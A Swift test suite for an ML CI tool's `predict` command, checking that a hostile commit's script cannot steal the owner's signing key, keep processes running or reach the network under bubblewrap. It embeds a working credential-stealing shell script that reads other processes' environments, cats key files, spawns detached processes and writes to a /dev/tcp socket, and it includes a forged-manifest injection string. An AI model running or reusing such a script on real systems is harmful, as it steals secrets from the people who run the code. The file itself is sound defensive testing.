import EaseMLTestSupport
import Foundation
import Testing

/// `predict` runs a hostile commit's script (issue 15): it looks for the owner's key in every
/// process's environment it can read, in the files its environment names and at the default key
/// file locations, leaves processes behind and calls a listener on 127.0.0.1. Nothing of the key
/// reaches anything it could write, nothing it started survives `predict`, and under bwrap it has
/// no network, no other process's environment and no file outside its tree.
@Suite(.serialized) struct PredictTests {
    /// Whether bubblewrap works here (the sandbox's probe, by hand).
    static let bubblewrapWorks: Bool = {
        guard FileManager.default.isExecutableFile(atPath: "/usr/bin/bwrap") else { return false }
        let result = try? CommandLineRunner.runProgram(
            URL(fileURLWithPath: "/usr/bin/bwrap"), ["--unshare-all", "--die-with-parent", "--ro-bind", "/", "/", "--proc", "/proc", "--dev", "/dev", "/bin/true"],
            in: URL(fileURLWithPath: "/"))
        return result?.status == 0
    }()

    /// The owner's repository (key, sealed set, 70 % baseline) and a commit whose script is `script`.
    static func repository(script: String) throws -> ModelRepository {
        let repo = try ModelRepository()
        let add = try repo.run(["testset", "add", "--labels", "labels.csv", "--force"])
        guard add.status == 0 else { throw ModelRepository.RepositoryError.failed(add.stderr) }
        _ = try repo.run(["baseline", "set", "--predictions", "baseline.csv", "--branch", "main"])
        try FileManager.default.createDirectory(at: repo.root.appendingPathComponent("model"), withIntermediateDirectories: true)
        try script.write(to: repo.root.appendingPathComponent("model/steal.sh"), atomically: true, encoding: .utf8)
        let config = try String(contentsOf: repo.root.appendingPathComponent(".easeml.yml"), encoding: .utf8)
        try config.replacingOccurrences(of: "script: cp model/predictions.csv \"$EASEML_OUTPUT\"", with: "script: sh model/steal.sh")
            .write(to: repo.root.appendingPathComponent(".easeml.yml"), atomically: true, encoding: .utf8)
        _ = try repo.commitModel(accuracy: 0.9, message: "a model with a hostile script")
        return repo
    }

    /// The script: everything it finds goes to $EASEML_OUTPUT (the artifact CI uploads), to a file
    /// outside its tree and to its output.
    static func stealer(loot: URL, port: UInt16, marker: Int, scanFiles: Bool) -> String {
        """
        #!/bin/sh
        out="$EASEML_OUTPUT"
        {
          echo "BEGIN-ENV"; env; echo "END-ENV"
          for environ in /proc/[0-9]*/environ; do
            tr '\\0' '\\n' < "$environ" 2>/dev/null | grep -E '^EASEML_KEY(_FILE)?=' | while IFS= read -r line; do
              echo "found in $environ: $line"
              case "$line" in EASEML_KEY_FILE=*) cat "${line#EASEML_KEY_FILE=}" ;; esac
            done
          done
          pid=$$
          while [ -n "$pid" ] && [ "$pid" -gt 1 ]; do
            echo "ancestor $pid"; tr '\\0' '\\n' < /proc/$pid/environ
            pid=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$pid/status)
          done
          for file in "$HOME/.easeml.key" /root/.easeml.key /home/*/.easeml.key; do cat "$file"; done
          \(scanFiles ? "find /tmp /root /home /work /var \\( -name '*.key' -o -name 'ledger.sqlite' \\) -print -exec cat {} \\; 2>/dev/null | head -c 100000" : "")
        } > "$out" 2>&1
        cp "$out" '\(loot.path)'
        sleep 3000.\(marker)1 &
        setsid sleep 3000.\(marker)2 &
        ( sleep 3000.\(marker)3 & )
        nohup sleep 3000.\(marker)4 > /dev/null 2>&1 &
        bash -c 'echo stolen > /dev/tcp/127.0.0.1/\(port)' && echo connected >> "$out"
        echo "the script printed this"
        exit 0
        """
    }

    /// Every process whose command line holds `marker`.
    static func survivors(_ marker: Int) -> [String] {
        let pids = ((try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []).filter { Int($0) != nil }
        return pids.compactMap { pid in
            guard let data = FileManager.default.contents(atPath: "/proc/\(pid)/cmdline") else { return nil }
            let line = String(decoding: data, as: UTF8.self).replacingOccurrences(of: "\0", with: " ")
            return line.contains("3000.\(marker)") ? "\(pid): \(line)" : nil
        }
    }

    @Test(arguments: ["bwrap", "process"])
    func aKeyStealingScriptFindsNoKeyLeavesNothingRunningAndUnderBwrapHasNoNetwork(isolation: String) throws {
        try #require(isolation == "process" || Self.bubblewrapWorks, "bubblewrap does not work on this machine")
        let server = try TestHTTPServer { _ in .drop }
        defer { server.stop() }
        let outside = try CommandLineRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: outside) }
        let loot = outside.appendingPathComponent("loot.txt")
        let marker = Int.random(in: 100_000...999_999)
        let repo = try Self.repository(script: Self.stealer(loot: loot, port: server.port, marker: marker, scanFiles: isolation == "bwrap"))
        defer { repo.remove() }
        let key = try String(contentsOfFile: try #require(repo.environment["EASEML_KEY_FILE"]), encoding: .utf8)
            .trimmingCharacters(in: .whitespacesAndNewlines)
        let output = outside.appendingPathComponent("predictions.csv")

        // The prediction job: no key in its environment.
        let predict = try CommandLineRunner.run(["predict", "--commit", "HEAD", "--output", output.path, "--isolation", isolation, "--json"], in: repo.root)
        #expect(predict.status == 0, "\(predict.stdout)\(predict.stderr)")
        #expect(Self.survivors(marker).isEmpty, "left running: \(Self.survivors(marker))")

        let predictions = try String(contentsOf: output, encoding: .utf8)
        let manifest = try String(contentsOfFile: output.path + ".easeml.json", encoding: .utf8)
        #expect(predictions.contains("BEGIN-ENV"), "the script ran and wrote its loot: \(predictions.prefix(500))")
        for (place, text) in [
            ("the predictions", predictions), ("the manifest", manifest), ("predict's output", predict.stdout + predict.stderr),
            ("the loot file", (try? String(contentsOf: loot, encoding: .utf8)) ?? ""),
        ] {
            #expect(!text.contains(key), "the key reached \(place)")
        }
        // Nothing in the repository (the ledger holds sealed labels, never the key) holds it either.
        let files = FileManager.default.enumerator(atPath: repo.root.path)?.allObjects.compactMap { $0 as? String } ?? []
        for file in files {
            let text = (try? String(contentsOf: repo.root.appendingPathComponent(file), encoding: .utf8)) ?? ""
            #expect(!text.contains(key), "the key is in \(file)")
        }
        // The environment the script saw: the allow-list and nothing else.
        let environment = predictions.components(separatedBy: "BEGIN-ENV\n").last?.components(separatedBy: "END-ENV").first ?? ""
        let names = Set(environment.split(separator: "\n").compactMap { $0.split(separator: "=").first.map(String.init) })
        let allowed: Set<String> = ["PATH", "LANG", "LANGUAGE", "HOME", "TMPDIR", "EASEML_INPUTS", "EASEML_OUTPUT", "PWD", "OLDPWD", "SHLVL", "_"]
        #expect(names.allSatisfy { allowed.contains($0) || $0.hasPrefix("LC_") }, "\(names.sorted())")
        #expect(!predictions.contains("found in") || isolation == "process", "under bwrap no other process's environment is visible")

        let json = try #require(try JSONSerialization.jsonObject(with: Data(predict.stdout.utf8)) as? [String: Any])
        let sandbox = try #require(json["sandbox"] as? [String: Any])
        #expect(sandbox["isolation"] as? String == isolation)
        let inForce = sandbox["inForce"] as? [String] ?? []
        #expect(manifest.contains("\"isolation\" : \"\(isolation)\""))
        if isolation == "bwrap" {
            #expect(server.connectionCount == 0, "no network under bwrap")
            #expect(!predictions.contains("connected"))
            #expect(!FileManager.default.fileExists(atPath: loot.path), "nothing outside its output folder is writable")
            #expect(inForce.contains("no-network") && inForce.contains("own-proc") && inForce.contains("read-only-files"))
            // The ancestors' environments and the owner's files were out of sight.
            #expect(!predictions.contains("EASEML_KEY_FILE="))
        } else {
            // Without bwrap the network is there, and the record says so.
            #expect(server.connectionCount >= 1)
            #expect((sandbox["notInForce"] as? [String] ?? []).contains("no-network"))
            #expect(FileManager.default.fileExists(atPath: loot.path))
        }
    }

    /// `predict` does not start where a key is within the script's reach, unless the owner says
    /// the script is theirs.
    @Test func predictRefusesToStartWhereAKeyIsInReach() throws {
        let repo = try Self.repository(script: "#!/bin/sh\ncp model/predictions.csv \"$EASEML_OUTPUT\"\n")
        defer { repo.remove() }
        let keyFile = try #require(repo.environment["EASEML_KEY_FILE"])
        let key = try String(contentsOfFile: keyFile, encoding: .utf8).trimmingCharacters(in: .whitespacesAndNewlines)
        let output = repo.root.appendingPathComponent("../\(repo.root.lastPathComponent)-predictions.csv").standardizedFileURL
        defer {
            try? FileManager.default.removeItem(at: output)
            try? FileManager.default.removeItem(atPath: output.path + ".easeml.json")
        }
        let arguments = ["predict", "--commit", "HEAD", "--output", output.path]
        let withKey = try CommandLineRunner.run(arguments, in: repo.root, environment: ["EASEML_KEY": key])
        #expect(withKey.status == 2, "\(withKey.stdout)\(withKey.stderr)")
        #expect(withKey.stderr.hasPrefix("error: a key is within reach of the commit's script: EASEML_KEY is set in its environment."), "\(withKey.stderr)")
        #expect(withKey.stderr.contains("--trusted-script"))
        #expect(!withKey.stderr.contains(key))
        #expect(!FileManager.default.fileExists(atPath: output.path))
        let withFile = try CommandLineRunner.run(arguments + ["--json"], in: repo.root, environment: ["EASEML_KEY_FILE": keyFile])
        #expect(withFile.status == 2 && withFile.stdout.contains("EASEML_KEY_FILE is set in its environment"), "\(withFile.stdout)")
        // The default key file in HOME.
        let home = try CommandLineRunner.temporaryDirectory()
        defer { try? FileManager.default.removeItem(at: home) }
        try FileManager.default.copyItem(atPath: keyFile, toPath: home.appendingPathComponent(".easeml.key").path)
        let inHome = try CommandLineRunner.run(arguments, in: repo.root, environment: ["HOME": home.path])
        #expect(inHome.status == 2 && inHome.stderr.contains("the key file \(home.path)/.easeml.key is readable"), "\(inHome.stderr)")
        // A parent that holds the key and drops it for `predict`: without bwrap its environment is
        // readable, so predict refuses; under bwrap it is out of sight, so predict runs.
        let shell = "env -u EASEML_KEY_FILE '\(CommandLineRunner.executable.path)' predict --commit HEAD --output '\(output.path)' --isolation \"$1\"; echo \"exit $?\""
        let parent = try CommandLineRunner.runProgram(
            URL(fileURLWithPath: "/bin/sh"), ["-c", shell, "sh", "process"], in: repo.root, environment: ["EASEML_KEY_FILE": keyFile])
        #expect(parent.stdout.contains("exit 2") && parent.stderr.contains("EASEML_KEY_FILE is set in the environment of its ancestor process"), "\(parent.stdout)\(parent.stderr)")
        if Self.bubblewrapWorks {
            let sandboxed = try CommandLineRunner.runProgram(
                URL(fileURLWithPath: "/bin/sh"), ["-c", shell, "sh", "bwrap"], in: repo.root, environment: ["EASEML_KEY_FILE": keyFile])
            #expect(sandboxed.stdout.contains("exit 0"), "\(sandboxed.stdout)\(sandboxed.stderr)")
        }
        // The owner's own script, with the key around: --trusted-script, recorded in the manifest.
        let trusted = try CommandLineRunner.run(arguments + ["--trusted-script"], in: repo.root, environment: ["EASEML_KEY": key])
        #expect(trusted.status == 0, "\(trusted.stderr)")
        #expect(try String(contentsOfFile: output.path + ".easeml.json", encoding: .utf8).contains("\"trustedScript\" : true"))
    }

    /// A commit cannot widen its own sandbox from `.easeml.yml`: keys that would (`sandbox_read`,
    /// `isolation`, `trusted_script`) are not configuration keys, so the commit's file is refused
    /// with its position before anything runs; the sandbox is widened only on the owner's command
    /// line (`--sandbox-read`). The honest commit still predicts.
    @Test func aCommitCannotWidenItsSandboxFromItsConfiguration() throws {
        let repo = try Self.repository(script: "#!/bin/sh\ncp model/predictions.csv \"$EASEML_OUTPUT\"\n")
        defer { repo.remove() }
        let output = repo.root.appendingPathComponent("../\(repo.root.lastPathComponent)-widen.csv").standardizedFileURL
        defer {
            try? FileManager.default.removeItem(at: output)
            try? FileManager.default.removeItem(atPath: output.path + ".easeml.json")
        }
        let arguments = ["predict", "--commit", "HEAD", "--output", output.path]
        let honest = try CommandLineRunner.run(arguments, in: repo.root)
        #expect(honest.status == 0, "\(honest.stdout)\(honest.stderr)")
        try FileManager.default.removeItem(at: output)
        let config = repo.root.appendingPathComponent(".easeml.yml")
        let original = try String(contentsOf: config, encoding: .utf8)
        for line in ["sandbox_read: /", "isolation: none", "trusted_script: true"] {
            try (original + (original.hasSuffix("\n") ? "" : "\n") + line + "\n").write(to: config, atomically: true, encoding: .utf8)
            try repo.git("commit", "-q", "-am", "widen: \(line)")
            let widened = try CommandLineRunner.run(arguments, in: repo.root)
            let key = String(line.prefix { $0 != ":" })
            #expect(widened.status == 2, "\(line): \(widened.stdout)\(widened.stderr)")
            #expect(widened.stderr.contains("`\(key)`") && widened.stderr.contains(".easeml.yml:"), "\(widened.stderr)")
            #expect(!FileManager.default.fileExists(atPath: output.path), "\(line): the script ran")
        }
    }

    /// The scoring phase takes only the predictions made for this commit and the test set in use,
    /// unchanged; it runs nothing, records the sandbox the manifest reports, and notes the commit.
    @Test func checkScoresOnlyThePredictionsMadeForThisCommitAndSet() throws {
        let repo = try Self.repository(script: "#!/bin/sh\ncp model/predictions.csv \"$EASEML_OUTPUT\"\n")
        defer { repo.remove() }
        let first = try repo.git("rev-parse", "HEAD")
        let output = repo.root.appendingPathComponent("../\(repo.root.lastPathComponent)-predictions.csv").standardizedFileURL
        let manifest = output.path + ".easeml.json"
        defer {
            try? FileManager.default.removeItem(at: output)
            try? FileManager.default.removeItem(atPath: manifest)
        }
        #expect(try CommandLineRunner.run(["predict", "--commit", first, "--output", output.path], in: repo.root).status == 0)
        // Another commit: the artifact is not its.
        let second = try repo.commitModel(accuracy: 0.95, message: "a second model")
        let other = try repo.run(["check", "--commit", second, "--predictions", output.path])
        #expect(other.status == 2, "\(other.stdout)\(other.stderr)")
        #expect(other.stderr.contains("were made for commit \(first.prefix(12)), not for commit \(second.prefix(12))"), "\(other.stderr)")
        // Edited predictions.
        let original = try Data(contentsOf: output)
        try (String(decoding: original, as: UTF8.self).replacingOccurrences(of: "x0,", with: "x0,9\nx-,")).write(to: output, atomically: true, encoding: .utf8)
        let edited = try repo.run(["check", "--commit", first, "--predictions", output.path])
        #expect(edited.status == 2 && edited.stderr.contains("its SHA-256 differs from the manifest's"), "\(edited.stderr)")
        try original.write(to: output)
        // A manifest a hostile job wrote: its ids never reach the message verbatim.
        let honest = try String(contentsOfFile: manifest, encoding: .utf8)
        try honest.replacingOccurrences(of: first, with: "::error::pwned").write(toFile: manifest, atomically: true, encoding: .utf8)
        let forged = try repo.run(["check", "--commit", first, "--predictions", output.path])
        #expect(forged.status == 2 && forged.stderr.contains("a malformed commit id") && !forged.stderr.contains("pwned"), "\(forged.stderr)")
        try honest.write(toFile: manifest, atomically: true, encoding: .utf8)
        #expect(try GateAdversaryTests.stepsUsed(repo) == 0, "no mismatch is charged")
        // The right commit: scored, noted, the sandbox recorded as the prediction job reports it.
        let check = try repo.run(["check", "--commit", first, "--predictions", output.path, "--json"])
        #expect(check.status == 0, "\(check.stdout)\(check.stderr)")
        let json = try #require(try JSONSerialization.jsonObject(with: Data(check.stdout.utf8)) as? [String: Any])
        let provenance = try #require((json["gate"] as? [String: Any])?["provenance"] as? [String: Any])
        #expect(provenance["source"] as? String == "predict")
        #expect(provenance["manifest"] as? String == manifest)
        #expect((provenance["sandbox"] as? [String: Any])?["isolation"] as? String == (Self.bubblewrapWorks ? "bwrap" : "process"))
        #expect(try repo.git("notes", "--ref=easeml", "show", first).hasPrefix("easeml-ci: pass"))
        // A set registered since: the predictions were made for the old one.
        try repo.write("labels2.csv", accuracy: 1)
        let lines = try String(contentsOf: repo.root.appendingPathComponent("labels2.csv"), encoding: .utf8).split(separator: "\n").prefix(2001)
        try (lines.joined(separator: "\n") + "\n").write(to: repo.root.appendingPathComponent("labels2.csv"), atomically: true, encoding: .utf8)
        #expect(try repo.run(["testset", "add", "--labels", "labels2.csv", "--force"]).status == 0)
        let stale = try repo.run(["check", "--commit", first, "--predictions", output.path])
        #expect(stale.status == 2 && stale.stderr.contains("but the test set in use is"), "\(stale.stderr)")
    }

    /// A script that never ends is killed at --script-timeout, with what it started.
    @Test func aScriptIsKilledAtItsTimeout() throws {
        let marker = Int.random(in: 100_000...999_999)
        let repo = try Self.repository(script: "#!/bin/sh\nsetsid sleep 3000.\(marker)1 &\nsleep 3000.\(marker)2\n")
        defer { repo.remove() }
        let output = repo.root.appendingPathComponent("../\(repo.root.lastPathComponent)-predictions.csv").standardizedFileURL
        let started = Date()
        let predict = try CommandLineRunner.run(["predict", "--commit", "HEAD", "--output", output.path, "--script-timeout", "1", "--isolation", "process"], in: repo.root)
        #expect(predict.status == 2)
        #expect(predict.stderr.contains("it ran longer than its timeout of 1 s (--script-timeout) and was killed"), "\(predict.stderr)")
        #expect(Date().timeIntervalSince(started) < 30)
        #expect(Self.survivors(marker).isEmpty, "\(Self.survivors(marker))")
        #expect(!FileManager.default.fileExists(atPath: output.path), "no predictions, no manifest")
        let bad = try CommandLineRunner.run(["predict", "--commit", "HEAD", "--output", output.path, "--isolation", "chroot"], in: repo.root)
        #expect(bad.status == 2 && bad.stderr.contains("--isolation: expected one of auto, bwrap, process"), "\(bad.stderr)")
    }
}
